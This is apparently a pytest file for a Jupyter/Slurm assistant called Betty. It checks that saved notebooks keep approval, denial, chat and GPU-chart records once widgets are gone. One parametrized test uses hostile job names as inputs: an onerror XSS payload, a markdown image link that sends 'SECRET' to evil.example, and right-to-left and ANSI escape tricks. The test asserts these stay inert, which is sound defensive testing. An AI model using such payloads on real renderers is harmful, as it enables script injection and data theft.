"""What a saved notebook keeps of Betty's widgets, in a real kernel on the dev cluster.

A widget's view dies with its kernel; JupyterLab then shows "Error displaying widget: model
not found" for any output that still names one. Each output Betty shows carries its record
(text/html and text/plain), and an answered card, a finished call, an ended job and a
finished chat keep the record alone. The kernel driver keeps outputs as JupyterLab does
(display updates applied) and saves them as a notebook, which is read back here.
"""

from __future__ import annotations

import ast
import base64
import getpass
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import nbformat
import pytest

from betty_jupyter.gpu.chart import part_label
from betty_jupyter.safe_text import visible
from hostile import live_html, shown_text
from kernel_driver import WIDGET_VIEW, Cell, Kernel
from llm_server import ScriptedLLM, call, say
from notebook_support import SCRIPT, betty_kernel, kernel, llm, project, submit  # noqa: F401 (fixtures)

ME = f"{getpass.getuser()} (notebook)"

SVG = "{http://www.w3.org/2000/svg}"


def chart_of(html: str) -> ET.Element:
    """The SVG chart a record carries as its one inline image."""
    [data] = re.findall(r'<img src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"', html)
    return ET.fromstring(base64.b64decode(data))


def saved(kernel: Kernel, tmp_path: Path) -> list[list[dict[str, Any]]]:
    """The notebook as saved now, read back: each cell's outputs' data."""
    path = tmp_path / "saved.ipynb"
    kernel.save(path)
    book = nbformat.read(path, as_version=4)
    nbformat.validate(book)
    return [[dict(output.get("data", {})) for output in cell.outputs] for cell in book.cells]


def index_of(kernel: Kernel, cell: Cell) -> int:
    return kernel.cells.index(cell)


def settled(output: dict[str, Any]) -> bool:
    """A record alone: text to show, and no widget that a restarted kernel would not have."""
    return WIDGET_VIEW not in output["data"] and bool(output["data"].get("text/html"))


def test_an_answered_card_is_saved_as_its_record(kernel: Kernel, tmp_path: Path) -> None:
    submitted = len(kernel.cells)
    job = submit(kernel, "recorded", seconds=300)
    submission = kernel.cells[submitted]
    call_output, followup = submission.outputs
    kernel.wait_for(lambda: settled(call_output), what="the submission's record")
    assert f"✓ approved by {ME}" in call_output["data"]["text/plain"]
    assert f"submitted job {job}" in call_output["data"]["text/plain"]
    assert "approved by" in shown_text(call_output["data"]["text/html"])
    assert "#SBATCH --job-name=recorded" in shown_text(call_output["data"]["text/html"]), "what was approved"
    kernel.wait_for(lambda: f"job {job} (recorded)" in followup["data"].get("text/plain", ""), what="the live job")
    assert WIDGET_VIEW in followup["data"], "the job is followed live below the record, while it runs"

    waiting = kernel.run(f"%betty cancel {job}")
    card = waiting.widgets[0]
    kernel.wait_for(lambda: kernel.find(card, "betty-deny"), what="the cancel card")
    [pending] = waiting.outputs
    assert WIDGET_VIEW in pending["data"], "a card still waiting keeps its buttons"
    assert f"scancel {job}" in pending["data"]["text/plain"] and "waiting for a person's answer" in pending["data"]["text/plain"]
    kernel.click(kernel.find(card, "betty-deny")[0])
    kernel.wait_for(lambda: settled(pending), what="the denial's record")
    assert f"✗ denied by {ME} — cluster_cancel" in pending["data"]["text/plain"]

    kept = kernel.run(f"%betty cancel {job}")
    card = kept.widgets[0]
    kernel.wait_for(lambda: kernel.find(card, "betty-deny"), what="the second cancel card")

    cells = saved(kernel, tmp_path)
    record = cells[index_of(kernel, submission)][0]
    assert WIDGET_VIEW not in record and "approved by" in record["text/html"] and f"submitted job {job}" in record["text/plain"]
    denial = cells[index_of(kernel, waiting)][0]
    assert WIDGET_VIEW not in denial and "denied by" in denial["text/html"] and ME in denial["text/plain"]
    assert WIDGET_VIEW in cells[index_of(kernel, kept)][0], "the unanswered card is saved with its view and its record"
    assert "waiting for a person's answer" in shown_text(cells[index_of(kernel, kept)][0]["text/html"])

    buttons = [m for m in kernel.descendants(card) if kernel.models[m].get("_model_name") == "ButtonModel"]
    assert {kernel.models[m]["description"] for m in buttons} >= {"Approve", "Approve for session", "Deny"}
    assert all(part(kernel, m, "layout")["width"] == "auto" for m in buttons if
               kernel.models[m]["description"] in ("Approve", "Approve for session", "Deny")), "never cut off"
    kernel.click(kernel.find(card, "betty-approve")[0])
    [cancelled] = kept.outputs
    kernel.wait_for(lambda: settled(cancelled) and f"cancelled job {job}" in cancelled["data"]["text/plain"],
                    what="the cancellation's record")
    kernel.wait_for(lambda: settled(followup) and "CANCELLED" in followup["data"]["text/plain"], timeout=120,
                    what="the ended job's record")


def part(kernel: Kernel, model_id: str, name: str) -> dict[str, Any]:
    """The state of a widget's ``layout`` or ``style``."""
    return kernel.models[str(kernel.models[model_id][name]).removeprefix("IPY_MODEL_")]


def described(kernel: Kernel, root: str, description: str) -> str:
    """The widget under ``root`` labelled ``description``."""
    return next(m for m in kernel.descendants(root) if kernel.models[m].get("description") == description)


def test_a_finished_chat_is_saved_as_the_conversation(kernel: Kernel, llm: ScriptedLLM, tmp_path: Path) -> None:
    kernel.run("%betty mode confirm")
    llm.add(call("cluster_partitions", {}), say("Two partitions: **cpu** and **gpu**."))
    cell = kernel.run('%betty ask "which partitions are there?"')
    chat = cell.widgets[0]
    kernel.click(kernel.wait_for(lambda: kernel.find(chat, "betty-approve"), what="the tier 1 card")[0])
    [output] = cell.outputs
    kernel.wait_for(lambda: settled(output), what="the chat's record")
    text = output["data"]["text/plain"]
    assert "You: which partitions are there?" in text and "Betty: Two partitions: **cpu** and **gpu**." in text
    assert f"✓ approved by {ME} — cluster_partitions" in text and "✓ cluster_partitions:" in text
    assert "<strong>cpu</strong>" in output["data"]["text/html"]
    assert WIDGET_VIEW not in saved(kernel, tmp_path)[index_of(kernel, cell)][0]


def test_a_first_estimate_in_a_new_kernel_draws_its_chart_without_matplotlib(project: dict[str, Any]) -> None:
    with betty_kernel(project["root"], project["env"]) as fresh:
        cell = fresh.run("%betty gpu --model Llama-3.1-8B --method lora --gpu a100-80gb")
        assert cell.status == "ok" and not cell.stderr, cell.stderr
        loaded = fresh.run("import sys\nprint(sorted(m for m in ('matplotlib', 'PIL') if m in sys.modules))")
        assert loaded.stdout.strip() == "[]", "the chart is Betty's own SVG: showing it needs no plotting library"
        [shown] = cell.outputs
        chart = chart_of(shown["data"]["text/html"])
        bars = {rect.get("data-part"): rect.findtext(f"{SVG}title") for rect in chart.iter(f"{SVG}rect")
                if rect.get("data-part")}
        breakdown = fresh.run("{part: round(gib, 2) for part, gib in _.breakdown.items() if gib}").text
        expected = {part: f"{part_label(part)} {gib:.2f} GiB" for part, gib in ast.literal_eval(breakdown).items()}
        assert bars == expected
        calculator = fresh.run("%betty gpu calculator --model Llama-3.1-8B --method qlora")
        [drawn] = fresh.find(calculator.widgets[0], "betty-gpu-chart")
        assert fresh.models[drawn]["value"].startswith("<svg ") and "H100-80GB (80 GiB)" in fresh.models[drawn]["value"]
        loaded = fresh.run("print(sorted(m for m in ('matplotlib', 'PIL') if m in sys.modules))")
        assert loaded.stdout.strip() == "[]"


def test_estimates_tables_and_the_calculator_carry_their_record(kernel: Kernel, tmp_path: Path) -> None:
    estimate = kernel.run("%betty gpu --model Llama-3.1-8B --method lora --gpu a100-80gb")
    [shown] = estimate.outputs
    assert settled(shown), "an estimate never changes: it is its record from the start"
    assert "GiB per GPU" in shown["data"]["text/plain"] and "on A100-80GB" in shown["data"]["text/plain"]
    assert "A100-80GB (80 GiB)" in chart_of(shown["data"]["text/html"]).itertext()

    calculator = kernel.run("%betty gpu calculator --model Llama-3.1-8B --method qlora")
    [view] = calculator.outputs
    assert WIDGET_VIEW in view["data"]
    assert "GPU calculator: model Llama-3.1-8B, method qlora, precision framework default" in view["data"]["text/plain"]
    assert "GiB per GPU" in view["data"]["text/html"]
    precision = described(kernel, calculator.widgets[0], "precision")
    assert kernel.models[precision]["index"] == 0 and kernel.models[precision]["_options_labels"][0] == "framework default"
    assert part(kernel, described(kernel, calculator.widgets[0], "checkpointing"), "style")["description_width"] == "110px"

    table = kernel.run("%betty sinfo")
    [partitions] = table.outputs
    assert "INFINITE" in partitions["data"]["text/plain"] and "INFINITE" in partitions["data"]["text/html"]
    assert "NaT" not in partitions["data"]["text/html"]
    assert kernel.run("bool(_.time_limit.isna().all())").text == "True", "`_` keeps the DataFrame: no limit is NaT there"

    queue = kernel.run("%betty squeue")
    [listed] = queue.outputs
    assert WIDGET_VIEW in listed["data"] and "queue on betty-dev" in listed["data"]["text/plain"]
    table = queue.widgets[0]
    assert part(kernel, kernel.find(table, "betty-refresh")[0], "layout")["width"] == "auto"
    for label in ("sort by", "auto-refresh"):
        assert part(kernel, described(kernel, table, label), "style")["description_width"] == "initial"
    saved(kernel, tmp_path)


@pytest.mark.parametrize("name", ["<img/src=x/onerror=window.__pwned=1>", "![x](https://evil.example/?d=SECRET)",
                                  "train\u202egpj.exe\x1b[2J"])
def test_a_hostile_job_name_stays_text_in_the_saved_record(kernel: Kernel, tmp_path: Path, name: str) -> None:
    script = SCRIPT.format(name=name, seconds=300)
    cell = kernel.run(f"%%betty submit --slug hostile-record --goal 'a name from elsewhere'\n{script}")
    assert cell.status == "ok" and not cell.stderr, cell.stderr
    root = cell.widgets[0]
    kernel.click(kernel.wait_for(lambda: kernel.find(root, "betty-approve"), what="the card")[0])
    record, followup = cell.outputs
    kernel.wait_for(lambda: settled(record), what="the record")
    job = re.search(r"submitted job (\d+)", record["data"]["text/plain"])
    assert job is not None, record["data"]["text/plain"]
    # the follow-up output starts as an empty placeholder; the job's record fills it from a thread
    kernel.wait_for(lambda: visible(name) in shown_text(followup["data"].get("text/html", "")),
                    what="the live job's record with the job's name")
    for output in (record, followup):
        assert live_html(output["data"]["text/html"]) == [], "nothing in the record runs or loads"
        assert "\x1b" not in output["data"]["text/plain"] and "\u202e" not in output["data"]["text/plain"]
    assert visible(name) in shown_text(record["data"]["text/html"]), "the script is shown as written"
    assert visible(name) in shown_text(followup["data"]["text/html"]), "the job's name is shown as text"
    for output in saved(kernel, tmp_path)[index_of(kernel, cell)]:
        assert live_html(output.get("text/html", "")) == []
    done = kernel.run(f"%betty cancel {job.group(1)}")
    kernel.click(kernel.wait_for(lambda: kernel.find(done.widgets[0], "betty-approve"), what="the cancel card")[0])
    kernel.wait_for(lambda: settled(done.outputs[0]), what="the cancellation")
